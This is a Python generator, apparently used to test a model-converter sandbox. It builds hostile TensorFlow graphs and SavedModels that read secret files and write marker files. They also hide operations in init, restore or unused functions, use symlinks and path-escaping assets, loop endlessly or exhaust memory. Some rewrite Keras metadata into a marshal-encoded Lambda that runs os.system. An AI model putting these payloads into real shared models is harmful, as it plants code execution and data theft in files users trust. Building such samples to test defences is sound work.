"""Run by the converter environment's Python: hostile graphs and SavedModels, one for each line of JSON on standard input.

A request has ``name``, ``kind`` (frozen, saved_model, hub or place) and the scene's paths; the answer is a line with
the path of what was made, or with what went wrong.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
from typing import Any, Callable, Dict

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"

import tensorflow as tf  # noqa: E402
from tensorflow.compat import v1  # noqa: E402
from tensorflow.core.protobuf import saved_model_pb2  # noqa: E402

raw = tf.raw_ops
Scene = Dict[str, Any]
NAME = "evil_layer"


def element(dataset: Any) -> Any:
    """Take the first element of a dataset of strings, which is what makes it read."""
    return raw.DatasetToSingleElement(
        dataset=raw.TakeDataset(input_dataset=dataset, count=1, output_types=[tf.string], output_shapes=[[]]),
        output_types=[tf.string],
        output_shapes=[[]],
        name=NAME,
    )


def read_by(reader: Any, path: str) -> Any:
    queue = raw.FIFOQueueV2(component_types=[tf.string])
    filled = raw.QueueEnqueueV2(handle=queue, components=[path])
    with tf.control_dependencies([filled]):
        return raw.ReaderReadV2(reader_handle=reader, queue_handle=queue, name=NAME)


def text_table(scene: Scene) -> Any:
    table = raw.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)
    return raw.InitializeTableFromTextFileV2(
        table_handle=table, filename=scene["secret"], key_index=-2, value_index=-1, name=NAME
    )


def summary(scene: Scene) -> Any:
    writer = raw.SummaryWriter()
    made = raw.CreateSummaryFileWriter(
        writer=writer, logdir=scene["marker"], max_queue=1, flush_millis=1, filename_suffix="x", name=NAME
    )
    with tf.control_dependencies([made]):
        told = raw.WriteScalarSummary(writer=writer, step=tf.constant(1, tf.int64), tag="t", value=1.0)
    with tf.control_dependencies([told]):
        return raw.FlushSummaryWriter(writer=writer)


def lines(scene: Scene) -> Any:
    return raw.TextLineDataset(filenames=scene["secret"], compression_type="", buffer_size=tf.constant(0, tf.int64))


def ones() -> Any:
    return raw.TensorDataset(components=[tf.constant("x")], output_shapes=[[]])


def mapped(scene: Scene) -> Any:
    @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
    def inside(path: Any) -> Any:
        return tf.io.read_file(path, name=NAME)

    function = inside.get_concrete_function()
    function.add_to_graph(tf.compat.v1.get_default_graph())
    of_path = raw.TensorDataset(components=[tf.constant(scene["secret"])], output_shapes=[[]])
    return element(
        raw.MapDataset(
            input_dataset=of_path, other_arguments=[], f=function, output_types=[tf.string], output_shapes=[[]]
        )
    )


def in_branch(scene: Scene) -> Any:
    def write() -> Any:
        with tf.control_dependencies([tf.io.write_file(scene["marker"], "x", name=NAME)]):
            return tf.constant(1.0)

    @tf.function
    def called() -> Any:
        return tf.cond(tf.constant(True), write, lambda: tf.constant(0.0))

    return called()


def in_loop(scene: Scene) -> Any:
    @tf.function
    def body(number: Any) -> Any:
        with tf.control_dependencies([tf.io.write_file(scene["marker"], "x", name=NAME)]):
            return number + 1

    return tf.while_loop(lambda n: n < 2, lambda n: (body(n),), [tf.constant(0)])


def grpc(scene: Scene) -> str:
    return "127.0.0.1:%d" % scene["port"]


def snapshot(scene: Scene) -> Any:
    made = raw.SnapshotDataset(input_dataset=ones(), path=scene["marker"], output_types=[tf.string], output_shapes=[[]])
    return element(made)


INT = tf.int64
OPS: Dict[str, Callable[[Scene], Any]] = {
    "ReadFile": lambda s: raw.ReadFile(filename=s["secret"], name=NAME),
    "WriteFile": lambda s: raw.WriteFile(filename=s["marker"], contents="x", name=NAME),
    "MatchingFiles": lambda s: raw.MatchingFiles(pattern=s["outside"] + "/*", name=NAME),
    "SaveV2": lambda s: raw.SaveV2(
        prefix=s["marker"], tensor_names=["a"], shape_and_slices=[""], tensors=[tf.constant(1.0)], name=NAME
    ),
    "Save": lambda s: raw.Save(filename=s["marker"], tensor_names=["a"], data=[tf.constant(1.0)], name=NAME),
    "SaveSlices": lambda s: raw.SaveSlices(
        filename=s["marker"], tensor_names=["a"], shapes_and_slices=[""], data=[tf.constant(1.0)], name=NAME
    ),
    "RestoreV2": lambda s: raw.RestoreV2(
        prefix=s["secret"], tensor_names=["a"], shape_and_slices=[""], dtypes=[tf.float32], name=NAME
    ),
    "Restore": lambda s: raw.Restore(file_pattern=s["outside"] + "/*", tensor_name="a", dt=tf.float32, name=NAME),
    "MergeV2Checkpoints": lambda s: raw.MergeV2Checkpoints(
        checkpoint_prefixes=[s["secret"]], destination_prefix=s["marker"], name=NAME
    ),
    "InitializeTableFromTextFileV2": text_table,
    "TextLineReaderV2": lambda s: read_by(raw.TextLineReaderV2(), s["secret"]),
    "WholeFileReaderV2": lambda s: read_by(raw.WholeFileReaderV2(), s["secret"]),
    "TFRecordReaderV2": lambda s: read_by(raw.TFRecordReaderV2(), s["secret"]),
    "FixedLengthRecordReaderV2": lambda s: read_by(raw.FixedLengthRecordReaderV2(record_bytes=4), s["secret"]),
    "TextLineDataset": lambda s: element(lines(s)),
    "TFRecordDataset": lambda s: element(
        raw.TFRecordDataset(filenames=s["secret"], compression_type="", buffer_size=tf.constant(0, INT))
    ),
    "FixedLengthRecordDatasetV2": lambda s: element(
        raw.FixedLengthRecordDatasetV2(
            filenames=s["secret"],
            header_bytes=tf.constant(0, INT),
            record_bytes=tf.constant(4, INT),
            footer_bytes=tf.constant(0, INT),
            buffer_size=tf.constant(0, INT),
            compression_type="",
        )
    ),
    "SqlDataset": lambda s: element(
        raw.SqlDataset(
            driver_name="sqlite",
            data_source_name=s["marker"],
            query="create table a (b)",
            output_types=[tf.string],
            output_shapes=[[]],
        )
    ),
    "CacheDataset": lambda s: element(
        raw.CacheDataset(input_dataset=ones(), filename=s["marker"], output_types=[tf.string], output_shapes=[[]])
    ),
    "SnapshotDataset": snapshot,
    "DatasetToTFRecord": lambda s: raw.DatasetToTFRecord(
        input_dataset=ones(), filename=s["marker"], compression_type="", name=NAME
    ),
    "MatchingFilesDataset": lambda s: element(raw.MatchingFilesDataset(patterns=[s["outside"] + "/*"])),
    "MapDataset": mapped,
    "DataServiceDatasetV2": lambda s: element(
        raw.DataServiceDatasetV2(
            dataset_id=tf.constant(1, INT),
            processing_mode="parallel_epochs",
            address=grpc(s),
            protocol="grpc",
            job_name="j",
            consumer_index=tf.constant(-1, INT),
            num_consumers=tf.constant(-1, INT),
            max_outstanding_requests=tf.constant(1, INT),
            iteration_counter=raw.DummyIterationCounter(),
            output_types=[tf.string],
            output_shapes=[[]],
        )
    ),
    "RegisterDatasetV2": lambda s: raw.RegisterDatasetV2(
        dataset=ones(), address=grpc(s), protocol="grpc", external_state_policy=0, name=NAME
    ),
    "DebugIdentity": lambda s: raw.DebugIdentity(
        input=tf.constant(1.0), tensor_name="a:0", debug_urls=["file://" + s["marker"]], name=NAME
    ),
    "DebugIdentityToHost": lambda s: raw.DebugIdentity(
        input=tf.constant(1.0), tensor_name="a:0", debug_urls=["grpc://" + grpc(s)], name=NAME
    ),
    "DebugIdentityV2": lambda s: raw.DebugIdentityV2(
        input=tf.constant(1.0), tfdbg_context_id="a", debug_urls=["file://" + s["marker"]], name=NAME
    ),
    "DebugNumericSummary": lambda s: raw.DebugNumericSummary(
        input=tf.constant(1.0), tensor_name="a:0", debug_urls=["file://" + s["marker"]], name=NAME
    ),
    "PrintV2": lambda s: raw.PrintV2(input="x", output_stream="file://" + s["marker"], name=NAME),
    "CreateSummaryFileWriter": summary,
    "CreateSummaryDbWriter": lambda s: raw.CreateSummaryDbWriter(
        writer=raw.SummaryWriter(), db_uri=s["marker"], experiment_name="a", run_name="b", user_name="c", name=NAME
    ),
    "ImmutableConst": lambda s: raw.ImmutableConst(
        dtype=tf.uint8, shape=[8], memory_region_name=s["secret"], name=NAME
    ),
    "LoadAndRemapMatrix": lambda s: raw.LoadAndRemapMatrix(
        ckpt_path=s["secret"],
        old_tensor_name="a",
        row_remapping=tf.constant([0], INT),
        col_remapping=tf.constant([0], INT),
        initializing_values=[],
        num_rows=1,
        num_cols=1,
        name=NAME,
    ),
    "GenerateVocabRemapping": lambda s: raw.GenerateVocabRemapping(
        new_vocab_file=s["secret"], old_vocab_file=s["secret"], new_vocab_offset=0, num_new_vocab=1, name=NAME
    ),
    "DecodeProtoV2": lambda s: raw.DecodeProtoV2(
        bytes=tf.constant(["x"]),
        message_type="m",
        field_names=[],
        output_types=[],
        descriptor_source=s["secret"],
        name=NAME,
    ),
    "EncodeProto": lambda s: raw.EncodeProto(
        sizes=[[1]],
        values=[tf.constant([[1.0]])],
        field_names=["a"],
        message_type="m",
        descriptor_source=s["secret"],
        name=NAME,
    ),
    "PyFunc": lambda _: raw.PyFunc(input=[tf.constant(1.0)], token="pyfunc_0", Tout=[tf.float32], name=NAME),
    "EagerPyFunc": lambda _: raw.EagerPyFunc(input=[tf.constant(1.0)], token="pyfunc_0", Tout=[tf.float32], name=NAME),
    "Abort": lambda _: raw.Abort(error_msg="evil", name=NAME),
    "If": in_branch,
    "While": in_loop,
}
"""Ops that reach out, or take the process down; each runs before the model's answer is given."""


def graph_of(name: str, scene: Scene) -> Any:
    graph = v1.Graph()
    with graph.as_default():
        x = v1.placeholder(tf.float32, [None, 3], name="x")
        made = OPS[name](scene)
        flat = tf.nest.flatten(made)
        with tf.control_dependencies([one for one in flat if one is not None] or graph.get_operations()[-1:]):
            tf.add(x, tf.constant(1.0), name="y")
    return graph


def frozen(name: str, scene: Scene) -> str:
    path = os.path.join(scene["here"], "model.pb")
    with open(path, "wb") as file:
        file.write(graph_of(name, scene).as_graph_def().SerializeToString())
    return path


def saved(graph: Any, scene: Scene, **more: Any) -> str:
    folder = os.path.join(scene["here"], "model")
    with graph.as_default(), v1.Session(graph=graph):
        builder = v1.saved_model.builder.SavedModelBuilder(folder)
        x, y = (graph.get_tensor_by_name(one) for one in ("x:0", "y:0"))
        signature = v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        builder.add_meta_graph_and_variables(
            v1.get_default_session(), ["serve"], {"serving_default": signature}, **more
        )
        builder.save()
    return folder


def saved_model(name: str, scene: Scene) -> str:
    return saved(graph_of(name, scene), scene)


def plain_graph() -> Any:
    graph = v1.Graph()
    with graph.as_default():
        tf.add(v1.placeholder(tf.float32, [None, 3], name="x"), tf.constant(1.0), name="y")
    return graph


class Serving(tf.Module):
    """A sound module of TensorFlow 2, with a table if a vocabulary is given."""

    def __init__(self, asset: str = "") -> None:
        super().__init__()
        self.weight = tf.Variable([1.0, 2.0, 3.0])
        self.table = None
        if asset:
            filled = tf.lookup.TextFileInitializer(asset, tf.string, -2, INT, -1)
            self.table = tf.lookup.StaticHashTable(filled, -1)

    @tf.function(input_signature=[tf.TensorSpec([None, 3], tf.float32, name="x")])
    def serve(self, x: Any) -> Any:
        found = 0 if self.table is None else self.table.lookup(tf.constant(["a"]))
        return {"y": x * self.weight + tf.cast(found, tf.float32)}


def modern(scene: Scene, module: Any = None) -> str:
    folder = os.path.join(scene["here"], "model")
    module = module or Serving()
    tf.saved_model.save(module, folder, signatures=module.serve)
    return folder


def vocabulary(scene: Scene) -> str:
    path = os.path.join(scene["here"], "vocabulary.txt")
    with open(path, "w") as file:
        file.write("a\nb\n")
    return path


def edit(folder: str, change: Callable[[Any], None]) -> str:
    path = os.path.join(folder, "saved_model.pb")
    document = saved_model_pb2.SavedModel()
    with open(path, "rb") as file:
        document.ParseFromString(file.read())
    change(document)
    with open(path, "wb") as file:
        file.write(document.SerializeToString())
    return folder


def write_nodes(graph: Any, scene: Scene, name: str = NAME) -> None:
    """Add nodes to a GraphDef or a function that write the marker."""
    for key, text in (("a", scene["marker"]), ("b", "x")):
        const = graph.add()
        const.name, const.op = name + "/" + key, "Const"
        const.attr["dtype"].type = tf.string.as_datatype_enum
        const.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(text))
    node = graph.add()
    node.name, node.op = name, "WriteFile"
    node.input.extend([name + "/a", name + "/b"])


def with_init(scene: Scene) -> str:
    graph = plain_graph()
    with graph.as_default():
        evil = raw.WriteFile(filename=scene["marker"], contents="x", name=NAME)
    return saved(graph, scene, main_op=evil)


def with_old_init(scene: Scene) -> str:
    graph = plain_graph()
    with graph.as_default():
        evil = raw.WriteFile(filename=scene["marker"], contents="x", name=NAME)
    return saved(graph, scene, legacy_init_op=evil)


def in_restore(scene: Scene) -> str:
    """Let the saver's restoring, which loading calls, write a file."""

    def change(document: Any) -> None:
        part = document.meta_graphs[0]
        for function in part.graph_def.library.function:
            if "restore" in function.signature.name:
                write_nodes(function.node_def, scene)
                for node in function.node_def:
                    if node.name == NAME:
                        node.input[:] = [NAME + "/a:output:0", NAME + "/b:output:0"]
                function.control_ret[NAME] = NAME
                function.signature.control_output.append(NAME)

    return edit(modern(scene), change)


def in_served_function(scene: Scene) -> str:
    def change(document: Any) -> None:
        for function in document.meta_graphs[0].graph_def.library.function:
            if "serve" in function.signature.name:
                write_nodes(function.node_def, scene)
                for node in function.node_def:
                    if node.name == NAME:
                        node.input[:] = [NAME + "/a:output:0", NAME + "/b:output:0"]
                function.control_ret[NAME] = NAME
                function.signature.control_output.append(NAME)

    return edit(modern(scene), change)


def in_unused_function(scene: Scene) -> str:
    """Let a function that nothing calls say that it implements the same as one that is called."""

    def change(document: Any) -> None:
        library = document.meta_graphs[0].graph_def.library
        served = next(one for one in library.function if "serve" in one.signature.name)
        other = library.function.add()
        other.CopyFrom(served)
        other.signature.name = "__inference_other_99"
        write_nodes(other.node_def, scene)
        for node in other.node_def:
            if node.name == NAME:
                node.input[:] = [NAME + "/a:output:0", NAME + "/b:output:0"]
        other.control_ret[NAME] = NAME
        other.signature.control_output.append(NAME)
        for function in (served, other):
            function.attr["api_implements"].s = b"same"
            function.attr["api_preferred_device"].s = b"CPU"

    return edit(modern(scene), change)


def in_second_graph(scene: Scene) -> str:
    folder = saved_model("WriteFile", scene)
    evil = saved_model_pb2.SavedModel()
    with open(os.path.join(folder, "saved_model.pb"), "rb") as file:
        evil.ParseFromString(file.read())
    shutil.rmtree(folder)

    def change(document: Any) -> None:
        document.meta_graphs.add().CopyFrom(evil.meta_graphs[0])
        document.meta_graphs.reverse()

    return edit(saved(plain_graph(), scene), change)


def pbtxt_beside(scene: Scene) -> str:
    """Leave an evil text beside a sound binary: whoever checks one and loads the other is deceived."""
    from google.protobuf import text_format

    folder = saved_model("WriteFile", scene)
    evil = saved_model_pb2.SavedModel()
    with open(os.path.join(folder, "saved_model.pb"), "rb") as file:
        evil.ParseFromString(file.read())
    shutil.rmtree(folder)
    saved(plain_graph(), scene)
    with open(os.path.join(folder, "saved_model.pbtxt"), "w") as file:
        file.write(text_format.MessageToString(evil))
    return folder


def renamed_asset(name: Callable[[Scene], str]) -> Callable[[Scene], str]:
    def make(scene: Scene) -> str:
        def change(document: Any) -> None:
            document.meta_graphs[0].asset_file_def[0].filename = name(scene)

        return edit(modern(scene, Serving(vocabulary(scene))), change)

    return make


def linked(part: str, aim: str) -> Callable[[Scene], str]:
    """Put a link to something outside in the place of a part of the model."""

    def make(scene: Scene) -> str:
        folder = modern(scene, Serving(vocabulary(scene)))
        path = os.path.join(folder, part)
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path)
        else:
            os.unlink(path)
        os.symlink(scene[aim], path)
        return folder

    return make


def endless(scene: Scene) -> str:
    graph = v1.Graph()
    with graph.as_default():
        x = v1.placeholder(tf.float32, [None, 3], name="x")
        turned = tf.while_loop(lambda n: n >= 0, lambda n: (n * 1,), [tf.constant(1)], name=NAME)
        tf.add(x, tf.cast(tf.nest.flatten(turned)[0], tf.float32), name="y")
    return saved(graph, scene)


def vast(scene: Scene) -> str:
    graph = v1.Graph()
    with graph.as_default():
        x = v1.placeholder(tf.float32, [None, 3], name="x")
        rows = tf.cast(tf.reduce_sum(x) * 0 + 60000.0, tf.int32)
        tf.add(x, tf.reduce_sum(tf.fill([rows, rows], 1.0)), name="y")
    return saved(graph, scene)


def keras_saved(scene: Scene) -> str:
    """Return a SavedModel with Keras's metadata, in which a sound layer is called evil."""
    import tf_keras

    folder = os.path.join(scene["here"], "model")
    inputs = tf_keras.Input([3], name="x")
    hidden = tf_keras.layers.Activation("relu", name=NAME)(inputs)
    tf_keras.Model(inputs, tf_keras.layers.Dense(2, name="y")(hidden)).save(folder, save_format="tf")
    return folder


def keras_metadata(change: Callable[[Scene, Dict[str, Any]], Dict[str, Any]]) -> Callable[[Scene], str]:
    """Make a Keras SavedModel whose metadata say something else of its layer."""
    from tensorflow.python.keras.protobuf import saved_metadata_pb2

    def make(scene: Scene) -> str:
        folder = keras_saved(scene)
        path = os.path.join(folder, "keras_metadata.pb")
        metadata = saved_metadata_pb2.SavedMetadata()
        with open(path, "rb") as file:
            metadata.ParseFromString(file.read())
        for node in metadata.nodes:
            told = json.loads(node.metadata)
            if told.get("name") == NAME:
                node.metadata = json.dumps(change(scene, told))
            elif told.get("class_name") == "Functional":
                for layer in told["config"]["layers"]:
                    if layer["name"] == NAME:
                        layer.update({key: value for key, value in change(scene, dict(layer)).items() if key in layer})
                node.metadata = json.dumps(told)
        with open(path, "wb") as file:
            file.write(metadata.SerializeToString())
        return folder

    return make


def as_lambda(scene: Scene, told: Dict[str, Any]) -> Dict[str, Any]:
    import base64
    import marshal

    made = compile("lambda x: __import__('os').system(%r) or x" % scene["command"], "<m>", "eval").co_consts[0]
    config = {
        "name": NAME,
        "function": [base64.b64encode(marshal.dumps(made)).decode(), None, None],
        "function_type": "lambda",
        "module": "builtins",
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
        "arguments": {},
    }
    return {**told, "class_name": "Lambda", "config": config}


def as_operation(scene: Scene, told: Dict[str, Any]) -> Dict[str, Any]:
    constant = [["_CONSTANT_VALUE", -1, scene["victim"], {}]]
    config = {"name": NAME, "trainable": True, "dtype": "float32", "function": "io.TFRecordWriter"}
    return {**told, "class_name": "TFOpLambda", "config": config, "inbound_nodes": constant}


def as_lookup(scene: Scene, told: Dict[str, Any]) -> Dict[str, Any]:
    config = {"name": NAME, "vocabulary": scene["secret"], "dtype": "int64", "mask_token": None}
    return {**told, "class_name": "StringLookup", "config": config}


def as_module(scene: Scene, told: Dict[str, Any]) -> Dict[str, Any]:
    fetched = {"class_name": "function", "module": "tensorflow.python.eager.context", "config": "os.system",
               "registered_name": "os.system"}  # fmt: skip
    config = {"name": NAME, "activation": fetched}
    return {**told, "module": "keras.layers", "registered_name": None, "config": config}


PLACES: Dict[str, Callable[[Scene], str]] = {
    "main-op": with_init,
    "legacy-init-op": with_old_init,
    "restore": in_restore,
    "served-function": in_served_function,
    "unused-function": in_unused_function,
    "second-graph": in_second_graph,
    "pbtxt-beside": pbtxt_beside,
    "asset-climbs-out": renamed_asset(lambda s: os.path.relpath(s["secret"], os.path.join(s["here"], "model/assets"))),
    "asset-absolute": renamed_asset(lambda s: s["secret"]),
    "asset-link": linked("assets/vocabulary.txt", "secret"),
    "assets-folder-link": linked("assets", "outside"),
    "variables-folder-link": linked("variables", "outside"),
    "variables-file-link": linked("variables/variables.data-00000-of-00001", "secret"),
    "index-file-link": linked("variables/variables.index", "secret"),
    "graph-file-link": linked("saved_model.pb", "secret"),
    "endless-loop": endless,
    "vast-tensor": vast,
    "keras-lambda": keras_metadata(as_lambda),
    "keras-operation": keras_metadata(as_operation),
    "keras-lookup": keras_metadata(as_lookup),
    "keras-module": keras_metadata(as_module),
}
"""SavedModels in which something stands where nobody looks."""
KINDS = {"frozen": frozen, "saved_model": saved_model, "hub": saved_model}


def main() -> None:
    for line in sys.stdin:
        asked = json.loads(line)
        try:
            kind, name = asked["kind"], asked["name"]
            made = PLACES[name](asked) if kind == "place" else KINDS[kind](name, asked)
            answer = {"path": made}
        except Exception as problem:  # noqa: BLE001  the host shows it
            answer = {"problem": repr(problem)[:2000]}
        sys.__stdout__.write(json.dumps(answer) + "\n")
        sys.__stdout__.flush()


if __name__ == "__main__":
    sys.stdout = sys.stderr
    main()
